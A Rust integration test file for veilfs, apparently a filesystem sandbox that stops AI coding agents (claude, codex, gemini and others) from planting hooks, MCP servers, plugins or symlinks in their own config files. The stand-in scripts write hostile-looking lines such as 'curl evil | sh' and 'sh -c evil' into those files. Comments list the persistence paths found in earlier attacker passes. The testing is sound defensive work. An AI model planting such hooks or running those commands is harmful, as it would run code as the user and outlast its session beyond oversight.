//! Agent profiles under `veilfs run`: for each agent, a stand-in for it (a script
//! named as the agent, on `PATH`) writes its state, reads its login and tries to
//! add a hook, a notify program, an MCP server or a plugin, that is, something it
//! would run later as the person. The state is written, the login read, the hook
//! refused, and the file on disk unchanged. The same session with `--agent none`
//! adds the hook, proving it was the profile that stood in the way.

mod common;

use std::path::PathBuf;
use std::process::{Command, Output};

use common::require_fuse;
use common::run::{show, text};

/// One agent's stand-in: its command, the state file it writes, the login it
/// reads, and the file where it would plant something that runs later (with what
/// is already there); paths relative to the home directory.
struct Agent {
    command: &'static str,
    state: &'static str,
    login: &'static str,
    runs_later: &'static str,
    /// Appends to `runs_later` (false: makes it, in a directory that exists).
    appends: bool,
}

const AGENTS: &[Agent] = &[
    Agent {
        command: "claude",
        state: ".claude/projects/p/session.jsonl",
        login: ".claude/.credentials.json",
        runs_later: ".claude/settings.json",
        appends: true,
    },
    Agent {
        command: "codex",
        state: ".codex/sessions/s.jsonl",
        login: ".codex/auth.json",
        runs_later: ".codex/config.toml",
        appends: true,
    },
    Agent {
        command: "gemini",
        state: ".gemini/tmp/chat.json",
        login: ".gemini/.env",
        runs_later: ".gemini/settings.json",
        appends: true,
    },
    Agent {
        command: "aider",
        state: ".aider/caches/c.json",
        login: ".aider/oauth-keys.env",
        runs_later: ".aider.conf.yml",
        appends: true,
    },
    Agent {
        command: "opencode",
        state: ".local/share/opencode/storage/s.json",
        login: ".local/share/opencode/auth.json",
        runs_later: ".config/opencode/plugins/planted.ts",
        appends: false,
    },
    Agent {
        command: "goose",
        state: ".local/share/goose/sessions/s.jsonl",
        login: ".config/goose/secrets.yaml",
        runs_later: ".config/goose/config.yaml",
        appends: true,
    },
];

const LOGIN: &str = "agent-login-token-42";
const BEFORE: &str = "# the person's own\n";

/// The stand-in: `$1` state, `$2` login, `$3` the file to plant in, `$4` append
/// or make; one line per outcome.
const STAND_IN: &str = r#"#!/bin/sh
mkdir -p "$(dirname "$HOME/$1")" && echo state > "$HOME/$1" && echo "state: ok" || echo "state: refused"
echo "login: $(cat "$HOME/$2" 2>/dev/null || echo refused)"
if [ "$4" = append ]; then
  (echo 'hooks = "curl evil | sh"' >> "$HOME/$3") 2>/dev/null && echo "plant: ok" || echo "plant: refused"
else
  (echo 'export default () => {}' > "$HOME/$3") 2>/dev/null && echo "plant: ok" || echo "plant: refused"
fi
"#;

struct Session {
    tmp: tempfile::TempDir,
}

impl Session {
    fn new() -> Session {
        require_fuse();
        let tmp = common::temp_tree("veilfs-agents", &["home", "ws", "bin", "rt"]);
        Session { tmp }
    }

    fn p(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    fn home(&self, rel: &str) -> PathBuf {
        self.p("home").join(rel)
    }

    /// The agent's login and the person's own file where it would plant.
    fn prepare(&self, a: &Agent) {
        let write = |rel: &str, text: &str| {
            let p = self.home(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        };
        write(a.login, LOGIN);
        if a.appends {
            write(a.runs_later, BEFORE);
        } else {
            std::fs::create_dir_all(self.home(a.runs_later).parent().unwrap()).unwrap();
        }
        let stand_in = self.p("bin").join(a.command);
        std::fs::write(&stand_in, STAND_IN).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&stand_in, std::fs::Permissions::from_mode(0o755)).unwrap();
    }

    /// `veilfs run ARGS -- COMMAND ARGS...` in the workspace, the home directory
    /// `home/`, the stand-ins first on `PATH`.
    fn run(&self, args: &[&str], command: &[&str]) -> Output {
        self.run_with(&[], args, command)
    }

    /// As [`Session::run`], with more variables.
    fn run_with(&self, vars: &[(&str, PathBuf)], args: &[&str], command: &[&str]) -> Output {
        let path = format!(
            "{}:{}",
            self.p("bin").display(),
            std::env::var("PATH").unwrap_or_default()
        );
        Command::new(env!("CARGO_BIN_EXE_veilfs"))
            .arg("run")
            .args(args)
            .arg("--")
            .args(command)
            .current_dir(self.p("ws"))
            .env("HOME", self.p("home"))
            .env_remove("XDG_CONFIG_HOME")
            .env("PATH", path)
            .env("VEILFS_RUNTIME_DIR", self.p("rt"))
            .envs(vars.iter().map(|(k, v)| (*k, v)))
            .output()
            .unwrap()
    }

    fn stand_in(&self, args: &[&str], a: &Agent) -> Output {
        let mode = if a.appends { "append" } else { "make" };
        self.run(args, &[a.command, a.state, a.login, a.runs_later, mode])
    }
}

fn said<'a>(o: &'a str, key: &str) -> &'a str {
    o.lines()
        .find_map(|l| l.strip_prefix(&format!("{key}: ")))
        .unwrap_or_else(|| panic!("no {key} in {o}"))
}

#[test]
fn each_agent_keeps_its_state_and_login_and_plants_nothing() {
    let s = Session::new();
    for a in AGENTS {
        s.prepare(a);
        let o = s.stand_in(&[], a);
        let out = text(&o.stdout);
        assert_eq!(o.status.code(), Some(0), "{}: {}", a.command, show(&o));
        assert_eq!(said(&out, "state"), "ok", "{}: {}", a.command, show(&o));
        assert_eq!(said(&out, "login"), LOGIN, "{}: {}", a.command, show(&o));
        assert_eq!(
            said(&out, "plant"),
            "refused",
            "{}: {}",
            a.command,
            show(&o)
        );
        assert_eq!(
            std::fs::read_to_string(s.home(a.state)).unwrap(),
            "state\n",
            "{}",
            a.command
        );
        let planted = std::fs::read_to_string(s.home(a.runs_later)).unwrap_or_default();
        assert_eq!(
            planted,
            if a.appends { BEFORE } else { "" },
            "{}",
            a.command
        );
        // The start-up line says which profile, and that the login is readable.
        let err = text(&o.stderr);
        assert!(
            err.contains(&format!(
                "agent {}: what it runs later read-only",
                a.command
            )),
            "{}: {}",
            a.command,
            show(&o)
        );
    }
}

#[test]
fn without_the_profile_the_plant_would_have_taken() {
    let s = Session::new();
    for a in AGENTS {
        s.prepare(a);
        let o = s.stand_in(&["--agent", "none"], a);
        let out = text(&o.stdout);
        assert_eq!(said(&out, "plant"), "ok", "{}: {}", a.command, show(&o));
        assert!(
            std::fs::read_to_string(s.home(a.runs_later))
                .unwrap()
                .contains("evil")
                || !a.appends,
            "{}",
            a.command
        );
    }
}

/// A profile named in the workspace policy holds for any command (a shell the
/// agent is started from), in the workspace too: a project's own hook file.
#[test]
fn a_policy_that_extends_a_profile_holds_for_every_command() {
    let s = Session::new();
    std::fs::write(s.p("ws/.veilfs.toml"), "extends = \"agent:claude\"\n").unwrap();
    std::fs::create_dir_all(s.p("ws/.claude")).unwrap();
    std::fs::write(s.p("ws/.claude/settings.json"), BEFORE).unwrap();
    std::fs::create_dir_all(s.home(".claude")).unwrap();
    std::fs::write(s.home(".claude/settings.json"), BEFORE).unwrap();
    let script = "for f in .claude/settings.json \"$HOME/.claude/settings.json\" .mcp.json; do \
                  (echo planted >> \"$f\") 2>/dev/null && echo \"$f: ok\" || echo \"$f: refused\"; done; \
                  cat .env 2>/dev/null || echo env: hidden";
    let o = s.run(&[], &["sh", "-c", script]);
    let out = text(&o.stdout);
    assert_eq!(
        said(&out, ".claude/settings.json"),
        "refused",
        "{}",
        show(&o)
    );
    assert_eq!(said(&out, ".mcp.json"), "refused", "{}", show(&o));
    assert!(
        out.contains("/.claude/settings.json: refused"),
        "{}",
        show(&o)
    );
    assert!(
        out.contains("env: hidden"),
        "the default still holds: {}",
        show(&o)
    );
    assert_eq!(
        std::fs::read_to_string(s.p("ws/.claude/settings.json")).unwrap(),
        BEFORE
    );
    assert!(!s.p("ws/.mcp.json").exists());
    assert!(text(&o.stderr).contains("agent claude"), "{}", show(&o));
}

/// What the agent runs later is held by a guard, not by rules: a policy's own
/// rule (a home policy, a learned or committed workspace policy) cannot make it
/// writable under the agent's session (third attacker pass: a learned `allow`
/// came after the profile); `--agent none` runs without the profile.
#[test]
fn a_policys_own_rule_cannot_loosen_the_profile() {
    let s = Session::new();
    let a = &AGENTS[0];
    s.prepare(a);
    std::fs::write(
        s.p("home.toml"),
        "extends = \"home-default\"\n[[rules]]\naction = \"allow\"\npaths = [\"/.claude/settings.json\"]\n",
    )
    .unwrap();
    let home_policy = s.p("home.toml");
    let o = s.stand_in(&["--home-policy", home_policy.to_str().unwrap()], a);
    assert_eq!(said(&text(&o.stdout), "plant"), "refused", "{}", show(&o));
    std::fs::write(
        s.p("ws/.veilfs.toml"),
        "extends = \"default\"\n[[rules]]\naction = \"allow\"\npaths = [\"/.claude/\", \"/.mcp.json\"]\n",
    )
    .unwrap();
    let o = s.run(
        &["--agent", "claude"],
        &[
            "sh",
            "-c",
            "mkdir -p .claude && (echo x > .claude/settings.json) 2>/dev/null && echo ok || echo refused; \
             (echo x > .mcp.json) 2>/dev/null && echo ok || echo refused",
        ],
    );
    assert_eq!(text(&o.stdout), "refused\nrefused\n", "{}", show(&o));
}

/// The profile only ever restricts: an agent's login file it makes readable in the
/// home directory is not shown in the workspace, where the built-in policy hides a
/// project's `.env` (third attacker pass: `--agent gemini` showed the project's
/// `.gemini/.env`).
#[test]
fn a_profile_shows_nothing_the_workspace_policy_hides() {
    let s = Session::new();
    std::fs::create_dir_all(s.p("ws/.gemini")).unwrap();
    std::fs::write(s.p("ws/.gemini/.env"), "GEMINI_API_KEY=project-secret\n").unwrap();
    std::fs::create_dir_all(s.home(".gemini")).unwrap();
    std::fs::write(s.home(".gemini/.env"), "GEMINI_API_KEY=person\n").unwrap();
    let o = s.run(
        &["--agent", "gemini"],
        &[
            "sh",
            "-c",
            "cat .gemini/.env 2>/dev/null || echo project: hidden; cat \"$HOME/.gemini/.env\"",
        ],
    );
    assert_eq!(
        text(&o.stdout),
        "project: hidden\nGEMINI_API_KEY=person\n",
        "{}",
        show(&o)
    );
}

#[test]
fn check_prints_each_profile_and_refuses_an_unknown_agent() {
    for a in AGENTS {
        let o = Command::new(env!("CARGO_BIN_EXE_veilfs"))
            .args(["check", "--print-profile", a.command])
            .output()
            .unwrap();
        let out = text(&o.stdout);
        assert!(
            out.starts_with(&format!("# veilfs agent profile \"{}\"", a.command)),
            "{}",
            show(&o)
        );
        assert!(
            out.contains(a.login.rsplit('/').next().unwrap()),
            "{}",
            a.command
        );
    }
    let o = Command::new(env!("CARGO_BIN_EXE_veilfs"))
        .args(["run", "--agent", "cursor", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", show(&o));
    assert!(
        text(&o.stderr).contains("the profiles are claude, codex"),
        "{}",
        show(&o)
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join(".veilfs.toml"),
        "extends = \"agent:cursor\"\n",
    )
    .unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_veilfs"))
        .arg("check")
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", show(&o));
    assert!(
        text(&o.stderr).contains("unknown agent \"cursor\" in `extends`"),
        "{}",
        show(&o)
    );
}

/// What the second attacker pass planted past the first profiles, each now
/// refused: a file an agent loads into its environment (gemini's `.env`, aider's
/// OAuth keys), a project's settings in another project of the home directory or
/// a subdirectory of the workspace, a status-line script beside Claude Code's
/// settings, a downloaded program opencode runs, Codex's rules and skills. Each
/// path is tried under its agent (`sh -c` through the stand-in's name), and the
/// disk is checked after.
#[test]
fn what_an_agent_loads_or_runs_from_elsewhere_cannot_be_planted() {
    let s = Session::new();
    // (agent, path relative to the home directory; `ws/` for the workspace)
    let plants: &[(&str, &str)] = &[
        ("gemini", ".gemini/.env"),
        ("gemini", "ws/.gemini/.env"),
        ("gemini", "proj2/.gemini/settings.json"),
        ("gemini", ".gemini/system.md"),
        ("aider", ".aider/oauth-keys.env"),
        ("aider", "proj2/.aider.conf.yml"),
        ("aider", "ws/sub/.aider.conf.yml"),
        ("claude", "proj2/.claude/settings.json"),
        ("claude", "ws/sub/.claude/settings.json"),
        ("claude", "ws/sub/.mcp.json"),
        ("claude", ".claude/statusline.sh"),
        ("claude", ".claude/statusline-command.sh"),
        ("opencode", ".local/share/opencode/bin/rg"),
        ("opencode", "ws/sub/opencode.json"),
        ("codex", ".codex/rules/default.rules"),
        ("codex", ".codex/skills/x/SKILL.md"),
        ("codex", ".codex/AGENTS.override.md"),
        ("codex", "proj2/.codex/config.toml"),
        ("goose", ".config/goose/recipes/r.yaml"),
    ];
    let path_of = |rel: &str| match rel.strip_prefix("ws/") {
        Some(w) => s.p("ws").join(w),
        None => s.home(rel),
    };
    for (agent, rel) in plants {
        // The directory it would go in exists (a project, a workspace's
        // subdirectory, the agent's own).
        std::fs::create_dir_all(path_of(rel).parent().unwrap()).unwrap();
        let stand_in = s.p("bin").join(agent);
        std::fs::write(&stand_in, "#!/bin/sh\nexec sh \"$@\"\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&stand_in, std::fs::Permissions::from_mode(0o755)).unwrap();
        let target = path_of(rel);
        let script = format!(
            "(echo 'AIDER_TEST_CMD=sh -c evil' >> '{}') 2>/dev/null && echo planted || echo refused",
            target.display()
        );
        let o = s.run(&["-q"], &[agent, "-c", &script]);
        assert_eq!(text(&o.stdout), "refused\n", "{agent} {rel}: {}", show(&o));
        assert!(!target.exists(), "{agent} {rel}: on disk");
    }
}

/// An agent whose directory a variable moves (`CLAUDE_CONFIG_DIR`, `CODEX_HOME`,
/// `GEMINI_CLI_HOME`) is held there too, when it lies in the home directory.
#[test]
fn a_directory_moved_by_its_variable_is_held_there_too() {
    let s = Session::new();
    let moved: &[(&str, &str, &str, &str)] = &[
        (
            "claude",
            "CLAUDE_CONFIG_DIR",
            ".config/claude",
            ".config/claude/settings.json",
        ),
        (
            "claude",
            "CLAUDE_CONFIG_DIR",
            ".config/claude",
            ".config/claude/hooks/h.sh",
        ),
        (
            "codex",
            "CODEX_HOME",
            "codex-home",
            "codex-home/config.toml",
        ),
        (
            "gemini",
            "GEMINI_CLI_HOME",
            "gh",
            "gh/.gemini/settings.json",
        ),
    ];
    for (agent, var, dir, plant) in moved {
        let target = s.home(plant);
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        let stand_in = s.p("bin").join(agent);
        std::fs::write(&stand_in, "#!/bin/sh\nexec sh \"$@\"\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&stand_in, std::fs::Permissions::from_mode(0o755)).unwrap();
        let script = format!(
            "(echo planted >> '{}') 2>/dev/null && echo planted || echo refused",
            target.display()
        );
        let vars = [(*var, s.home(dir))];
        let o = s.run_with(&vars, &["-q"], &[agent, "-c", &script]);
        assert_eq!(
            text(&o.stdout),
            "refused\n",
            "{agent} {var} {plant}: {}",
            show(&o)
        );
        assert!(!target.exists(), "{plant}");
    }
}

/// `veilfs mount` of a tree whose policy extends an agent's profile holds what
/// the agent runs later read-only too (a guard of the mount), and shows nothing the
/// policy hides.
#[test]
fn a_mount_whose_policy_extends_a_profile_guards_it() {
    let s = Session::new();
    let src = s.p("ws");
    std::fs::write(src.join(".veilfs.toml"), "extends = \"agent:claude\"\n").unwrap();
    std::fs::create_dir_all(src.join(".claude")).unwrap();
    std::fs::write(src.join(".claude/settings.json"), BEFORE).unwrap();
    std::fs::write(src.join(".env"), "SECRET\n").unwrap();
    let mnt = s.p("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    let mut c = Command::new(env!("CARGO_BIN_EXE_veilfs"));
    c.arg("mount").arg(&src).arg(&mnt);
    let _d = common::daemon::Daemon::start(c, &mnt);
    let write = |rel: &str| {
        std::fs::OpenOptions::new()
            .append(true)
            .create(true)
            .open(mnt.join(rel))
            .map(drop)
    };
    for rel in [".claude/settings.json", ".mcp.json", "sub/.mcp.json"] {
        std::fs::create_dir_all(mnt.join("sub")).unwrap();
        let e = write(rel).unwrap_err();
        assert_eq!(e.raw_os_error(), Some(libc::EACCES), "{rel}");
    }
    assert!(write("notes.txt").is_ok());
    assert!(std::fs::read(mnt.join(".env")).is_err());
    assert_eq!(
        std::fs::read_to_string(src.join(".claude/settings.json")).unwrap(),
        BEFORE
    );
    assert!(!src.join(".mcp.json").exists() && !src.join("sub/.mcp.json").exists());
}

/// A link made where a project keeps an agent's directory (`.claude`, `.gemini`,
/// `.codex`) would lead its settings to a place nothing holds: only a directory is
/// made there, in the workspace and in the home directory, by any call (fourth
/// attacker pass).
#[test]
fn no_link_stands_where_a_project_keeps_an_agents_directory() {
    let s = Session::new();
    std::fs::create_dir_all(s.home("evil")).unwrap();
    std::fs::write(s.home("evil/settings.json"), "{\"hooks\":1}\n").unwrap();
    std::fs::create_dir_all(s.home("np2")).unwrap();
    let evil = s.home("evil");
    let script = format!(
        "t() {{ \"$@\" 2>/dev/null && echo made || echo refused; }}; \
         t ln -s {evil} .claude; t ln -s {evil} sub/.gemini; t ln -s ../evil \"$HOME/np2/.codex\"; \
         ln -s {evil} lnk && t mv lnk .claude; t mkdir -p sub/.claude/hooks",
        evil = evil.display()
    );
    std::fs::create_dir_all(s.p("ws/sub")).unwrap();
    for agent in ["claude", "gemini", "codex"] {
        let o = s.run(&["-q", "--agent", agent], &["sh", "-c", &script]);
        let out = text(&o.stdout);
        let want = if agent == "claude" {
            // (its hooks directory is held too: not made)
            "refused\nmade\nmade\nrefused\nrefused\n"
        } else if agent == "gemini" {
            "made\nrefused\nmade\nmade\nmade\n"
        } else {
            "made\nmade\nrefused\nmade\nmade\n"
        };
        // Clean what an allowed step made, for the next agent.
        for p in [".claude", "sub/.gemini", "lnk", "sub/.claude"] {
            let p = s.p("ws").join(p);
            if std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink()) {
                std::fs::remove_file(&p).unwrap();
            } else if p.is_dir() {
                std::fs::remove_dir_all(&p).unwrap();
            }
        }
        let _ = std::fs::remove_file(s.home("np2/.codex"));
        assert_eq!(out, want, "{agent}: {}", show(&o));
    }
}

/// A home policy of the person's own that starts from nothing (`default =
/// "deny"`) gets none of a profile's allows: the agent's login and state stay as
/// that policy decides (fourth attacker pass).
#[test]
fn a_profile_allows_nothing_a_policy_of_ones_own_denies() {
    let s = Session::new();
    let a = &AGENTS[1]; // codex
    s.prepare(a);
    std::fs::write(
        s.p("deny-home.toml"),
        "extends = \"none\"\ndefault = \"deny\"\n[[rules]]\naction = \"allow\"\npaths = [\"/.cache/\"]\n",
    )
    .unwrap();
    let policy = s.p("deny-home.toml");
    let o = s.run(
        &[
            "-q",
            "--home-policy",
            policy.to_str().unwrap(),
            "--agent",
            "codex",
        ],
        &[
            "sh",
            "-c",
            "cat \"$HOME/.codex/auth.json\" 2>/dev/null || echo login: hidden; \
             (echo pwn > \"$HOME/.codex/auth.json\") 2>/dev/null && echo written || echo refused",
        ],
    );
    assert_eq!(text(&o.stdout), "login: hidden\nrefused\n", "{}", show(&o));
    assert_eq!(std::fs::read_to_string(s.home(a.login)).unwrap(), LOGIN);
}
